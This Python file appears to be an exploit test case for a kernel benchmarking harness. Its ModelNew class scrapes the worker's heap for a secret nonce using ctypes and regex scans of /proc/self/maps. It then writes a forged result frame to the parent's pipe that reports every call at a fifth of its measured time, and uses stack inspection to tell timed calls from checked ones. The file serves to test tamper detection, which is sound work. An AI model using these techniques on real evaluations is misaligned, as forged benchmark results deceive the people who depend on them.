# Exploit: a timing answer that lists exactly the calls the parent saw asked for, started and
# ended, each reported at a fifth of the time it took (a 5x speedup made up). The worker's answers
# carry a nonce that lives in the worker's memory, which the candidate shares: it finds the nonce
# there (as forge_timing_answer does) and, during the timing, writes its answer to the result pipe
# ahead of the worker's. Every call it lists was asked for and announced, and every reported wall
# clock fits inside its interval: only the stamps of the announcements, which say when the worker
# sent them, show that each call took five times what it claims (tampering). Its sketches are
# empty, so without that bound it would still fail later, on the sketches (timed_output_mismatch):
# the case's expected reason is the stamps'.
# If the nonce is not found the candidate is merely correct, and the case fails: it must find it.
import ctypes
import fcntl
import inspect
import json
import os
import re
import struct
import time

import torch
import torch.nn as nn

# The nonce as the worker keeps it: a std::string of 32 lowercase hex characters, whose buffer (33
# bytes with its NUL) is a glibc heap chunk of 48 bytes: the 8-byte size field 0x31 (0x30 when the
# chunk before it is free) right before the characters. Only a chunk in use keeps its first bytes: a
# freed one has the allocator's list pointers written over them, so the copies the worker made and
# freed (its questions to the parent, its parsed requests; the heap is trimmed between requests) do
# not match. Each pattern starts with the size field's fixed bytes, so the regular expression engine
# scans for that literal prefix in C: about 0.3 s per 600 MB of the worker's memory, whatever it
# holds, read in place. (bytes.find of the size field alone crawls through memory full of zeros, as
# a tensor's often is: its needle ends in zero bytes; a pattern that starts with a character class is
# slower still.)
_CHUNKS = (re.compile(rb"\x31\x00{7}([0-9a-f]{32})\x00"), re.compile(rb"\x30\x00{7}([0-9a-f]{32})\x00"))


def _regions():
    """The process's writable memory that is not a library's, each as a buffer over it (no copy):
    its heap, the anonymous regions its allocators map, its stacks, the shared regions its answers
    are written through. The smallest first: the stacks come before the tensors."""
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    readable = []
    for fields in regions:
        if not fields[1].startswith("rw"):
            continue
        name = fields[5] if len(fields) >= 6 else ""
        if ".so" in name or name.startswith(("/usr/", "/lib", "[v")):  # libraries, vvar, vsyscall
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        readable.append((end - start, start))
    for size, start in sorted(readable):
        yield start, (ctypes.c_char * size).from_address(start)


def _chunks():
    """(address, text) of every heap chunk of 48 bytes that holds 32 hex characters and a NUL."""
    return [(start + m.start(1), m.group(1)) for start, region in _regions() for pattern in _CHUNKS
            for m in pattern.finditer(region)]


def _referenced(addresses):
    """Those of these addresses that a string object points at with a length of 32 (libstdc++ lays a
    std::string out as its pointer, then its length, then its capacity): the worker's nonce_ does,
    from the worker object on the main thread's stack."""
    pending = {address: re.compile(re.escape(struct.pack("<QQ", address, 32))) for address in addresses}
    seen = set()
    for _, region in _regions():
        if not pending:
            break
        for address in [address for address, pattern in pending.items() if pattern.search(region)]:
            seen.add(address)
            del pending[address]
    return seen


def _nonce():
    """The nonce from the worker's own memory, read in place (the process's memory is its own; its
    /proc/self/mem is closed to it, the worker being non-dumpable): the text of a chunk in use that a
    live string object of length 32 points at, when exactly one such text exists.

    One answer only may be forged, and only with a nonce known to be the worker's: the parent ends
    the worker at the first answer whose nonce is not its own (`tampering`, for a frame it rejects
    without looking at its timing, which would prove nothing about the check of its clock), so a
    wrong guess must never be written, and several guesses cannot be tried. When no text, or more
    than one, qualifies: no nonce, the candidate stays honest and is merely correct, and the case
    fails, saying the exploit no longer finds its target."""
    found = _chunks()
    live = _referenced({address for address, _ in found})
    texts = {text for address, text in found if address in live}
    return texts.pop().decode() if len(texts) == 1 else None


def _forge(nonce, durations):
    """The answer: the calls 0..n-1 of this timing, each at a fifth of its measured time."""
    calls = [{"call": i, "event_ms": ms / 5, "host_ms": ms / 10, "wall_ms": ms / 5, "tail_ms": 0, "sketch": []}
             for i, ms in enumerate(durations)]
    fastest = min(ms / 5 for ms in durations)
    timing = {"samples": len(calls), "median_ms": fastest, "mean_ms": fastest, "stddev_ms": 0, "min_ms": fastest,
              "max_ms": fastest, "rel_spread": 0, "wall_median_ms": fastest, "score_ms": fastest,
              "host_median_ms": fastest / 2, "tail_median_ms": 0, "held": False, "host_bound": False,
              "device_median_ms": fastest, "device_cost_ms": fastest, "hold_mechanism": "", "hold_timeouts": 0,
              "empty_wall_ms": 0, "empty_tail_ms": 0, "sm_clock_min_mhz": 0, "sm_clock_max_mhz": 0,
              "throttled_samples": 0, "pinned": False}
    header = json.dumps({"nonce": nonce, "ok": True, "timing": timing, "calls": calls, "checked": [],
                         "tampered": []}).encode()
    frame = b"HRW1" + struct.pack("<IQ", len(header), 0) + header
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if fd > 2 and os.readlink("/proc/self/fd/%d" % fd).startswith("pipe:") and \
                    fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                os.write(fd, frame)
        except Exception:
            pass


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self._nonce = None
        self._looked = 0
        self._durations = []  # this timing's calls so far, in ms
        self._forged = False

    def forward(self, x):
        # Checked calls come through the harness's Python (driver.py); timed ones straight from C++.
        timed = not any("headroom" in (frame.filename or "") for frame in inspect.stack()[1:])
        if self._nonce is None and self._looked < 20:
            self._looked += 1
            self._nonce = _nonce()
        # The first timing follows the checked calls, its calls numbered from 0: counted from the
        # last checked call. (Not by the pauses between calls: on a busy machine, or while the
        # parent freezes this sandbox for another evaluation's timing, a timing pauses too.)
        if not timed:
            self._durations = []
        began = time.perf_counter()
        out = torch.relu(x)
        ended = time.perf_counter()
        if timed:
            self._durations.append((ended - began) * 1e3)
            # Calls 0-5 asked, run and announced by now: the answer lists them and no others.
            if len(self._durations) == 8 and self._nonce and not self._forged:
                self._forged = True
                _forge(self._nonce, self._durations[:6])
        return out
